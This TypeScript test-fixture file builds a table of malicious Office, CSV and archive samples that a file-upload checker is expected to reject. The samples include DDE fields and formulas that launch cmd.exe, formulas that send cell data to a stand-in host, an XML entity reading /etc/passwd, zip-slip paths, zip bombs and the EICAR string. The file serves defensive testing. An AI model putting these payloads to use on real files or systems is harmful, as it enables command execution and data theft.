import { gzipSync } from 'node:zlib';
import type { FileFault } from '@/lib/workflow/file-faults';
import { officeFile, officeParts, related, wordBody, zipOf } from './containers';

export type BadRow = [code: FileFault, name: string, bytes: Buffer, what: string];

/* In pieces, so that no scanner takes the sources for the test file. */
export const eicar = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS', '-TEST-FILE!$H+H*'].join('');
export const html = '<html><script>alert(1)</script></html>';
export const text = (content: string) => Buffer.from(content);
export const compound = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(2048)]);
export const jar = zipOf([{ name: 'META-INF/MANIFEST.MF', content: 'Main-Class: A' }]);

const field = (code: string) =>
  officeFile(
    'docx',
    wordBody(`<w:r><w:fldChar w:fldCharType="begin"/></w:r>${code}<w:r><w:fldChar w:fldCharType="end"/></w:r>`),
  );
const instruction = (text: string) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`;
const sheet = (formula: string) =>
  officeFile('xlsx', {
    'xl/worksheets/sheet1.xml': `<worksheet><sheetData><row><c><f>${formula}</f></c></row></sheetData></worksheet>`,
  });
const relating = (...relation: Parameters<typeof related>[0]) =>
  officeFile('docx', { 'word/_rels/document.xml.rels': related(relation) });

/** A container whose second part lies among the bytes of the first. */
function sharing(): Buffer {
  const inner = zipOf([{ name: 'xl/b.xml', content: '<b/>' }]);
  const outer = { name: 'xl/a.xml', content: Buffer.concat([text('<'), inner]), stored: true };
  return zipOf([
    outer,
    ...officeParts('xlsx'),
    { name: 'xl/b.xml', content: '<b/>', liesAt: 30 + outer.name.length + 1 },
  ]);
}

/** Office files that must not be taken. */
export const badOffice: BadRow[] = [
  ['macros', 'macros.docx', officeFile('docx', { 'word/vbaProject.bin': 'x' }), 'macros'],
  ['macros', 'controls.docx', officeFile('docx', { 'word/activeX/activeX1.xml': '<x/>' }), 'controls that run'],
  ['macros', 'sheet.xlsx', officeFile('xlsx', { 'xl/macrosheets/sheet1.xml': '<x/>' }), 'macros of the old kind'],
  ['embedded', 'object.docx', officeFile('docx', { 'word/embeddings/oleObject1.bin': compound }), 'an embedded object'],
  [
    'embedded',
    'archive.pptx',
    officeFile('pptx', { 'ppt/media/image1.png': jar }),
    'an archive posing as a picture inside',
  ],
  ['embedded', 'gzip.docx', officeFile('docx', { 'word/media/a.dat': gzipSync('x') }), 'another packing inside'],
  ['embedded', 'program.xlsx', officeFile('xlsx', { 'xl/media/a.bin': text('MZ\x90') }), 'a program inside'],
  [
    'macros',
    'inner.pptx',
    officeFile('pptx', { 'ppt/embeddings/Workbook1.xlsx': officeFile('xlsx', { 'xl/vbaProject.bin': 'x' }) }),
    'macros in a workbook inside',
  ],
  [
    'embedded',
    'third.pptx',
    officeFile('pptx', { 'ppt/embeddings/a.xlsx': officeFile('xlsx', { 'xl/embeddings/b.xlsx': officeFile('xlsx') }) }),
    'a file in a file in a file',
  ],
  ['embedded', 'chunk.docx', officeFile('docx', { 'word/afchunk.mht': 'x' }), 'a page that joins in'],
  [
    'remote',
    'template.docx',
    relating('attachedTemplate', 'https://a.example/t.dotm', true),
    'a template from elsewhere',
  ],
  [
    'remote',
    'share.docx',
    relating('attachedTemplate', 'file:///\\\\a.example\\s\\t.dotm', true),
    'a template on a share',
  ],
  [
    'remote',
    'spelled.docx',
    officeFile('docx', {
      'word/_rels/document.xml.rels': related(['image', 'https://a.example/1.png', true]).replace(
        '"External"',
        "'Extern&#97;l'",
      ),
    }),
    'a picture from elsewhere, spelled otherwise',
  ],
  ['remote', 'linked.docx', relating('oleObject', 'C:\\a.xls', true), 'a linked object'],
  ['remote', 'frame.docx', relating('frame', 'a.htm', true), 'a frame'],
  ['runs', 'field.docx', field(instruction(' DDEAUTO c:\\\\windows\\\\cmd.exe')), 'a field that calls a program'],
  [
    'runs',
    'split.docx',
    field(instruction('D') + instruction('D&#69;') + instruction(' cmd x')),
    'such a field in pieces',
  ],
  [
    'runs',
    'entity.docx',
    officeFile('docx', { 'word/document.xml': '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>' }),
    'an entity',
  ],
  [
    'damaged',
    'utf16.docx',
    officeFile('docx', { 'word/document.xml': Buffer.from('\ufeff<a/>', 'utf16le') }),
    'a part in another encoding',
  ],
  [
    'runs',
    'link.xlsx',
    officeFile('xlsx', {
      'xl/externalLinks/externalLink1.xml':
        '<externalLink><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>',
    }),
    'a data connection to a program',
  ],
  ['runs', 'formula.xlsx', sheet('cmd|&apos; /C calc&apos;!A0'), 'a formula that calls a program'],
  ['runs', 'fetch.xlsx', sheet('WEBSERVICE("https://a.example/?"&amp;A1)'), 'a formula that reaches out'],
  [
    'runs',
    'press.pptx',
    officeFile('pptx', { 'ppt/slides/slide1.xml': '<p:sld><a:hlinkClick action="ppaction://program"/></p:sld>' }),
    'a slide that starts a program',
  ],
  ['runs', 'formula.csv', text("Name,Sum\nA,=cmd|' /C calc'!A0\n"), 'a cell that calls a program'],
  ['runs', 'sum.csv', text('a;"=1+DDE(""cmd"";""/C calc"";""x"")"\n'), 'a cell that opens a data connection'],
  ['runs', 'fetch.csv', text('a\t=IMPORTXML("https://a.example/?"&A1;"//a")\n'), 'a cell that reaches out'],
  ['test-virus', 'eicar.docx', officeFile('docx', { 'word/media/a.png': eicar }), 'the test virus in Word'],
  [
    'test-virus',
    'eicar.xlsx',
    officeFile('xlsx', { 'docProps/custom.xml': `<a>${eicar}</a>` }),
    'the test virus in a workbook',
  ],
  [
    'test-virus',
    'inner.pptx',
    officeFile('pptx', { 'ppt/embeddings/a.xlsx': officeFile('xlsx', { 'xl/a.txt': eicar }) }),
    'the test virus in a file in a file',
  ],

  [
    'encrypted',
    'locked.docx',
    zipOf(officeParts('docx').map((part) => ({ ...part, encrypted: true }))),
    'a locked container',
  ],
  [
    'bomb',
    'claims.xlsx',
    zipOf([...officeParts('xlsx'), { name: 'xl/a.xml', content: '<', claims: 400_000_000 }]),
    'a container that unpacks to gigabytes',
  ],
  [
    'bomb',
    'lies.xlsx',
    zipOf([...officeParts('xlsx'), { name: 'xl/a.xml', content: ' '.repeat(5_000_000), claims: 10 }]),
    'a container that lies of its size',
  ],
  ['bomb', 'shared.xlsx', sharing(), 'parts that share their bytes'],
  [
    'two-kinds',
    'slip.docx',
    zipOf([...officeParts('docx'), { name: '../../etc/cron.d/a', content: 'x' }]),
    'a part that leads out of the folder',
  ],
  ['two-kinds', 'drive.docx', zipOf([...officeParts('docx'), { name: 'C:/a.xml', content: 'x' }]), 'a part on a drive'],
  [
    'two-kinds',
    'double.docx',
    zipOf([...officeParts('docx'), { name: 'WORD/document.xml', content: '<a/>' }]),
    'two parts of one name',
  ],
  [
    'wrong-kind',
    'masked.docx',
    zipOf([...officeParts('docx'), { name: 'word/a.xml', content: '<a/>', callsItself: 'word/b.exe' }]),
    'a part with two names',
  ],
  ['wrong-kind', 'tail.docx', Buffer.concat([officeFile('docx'), text(html)]), 'a container with a page behind it'],
  [
    'two-kinds',
    'pdf.docx',
    zipOf([{ name: 'a.txt', content: '%PDF-1.7', stored: true }, ...officeParts('docx')]),
    'a container that opens as PDF',
  ],
];
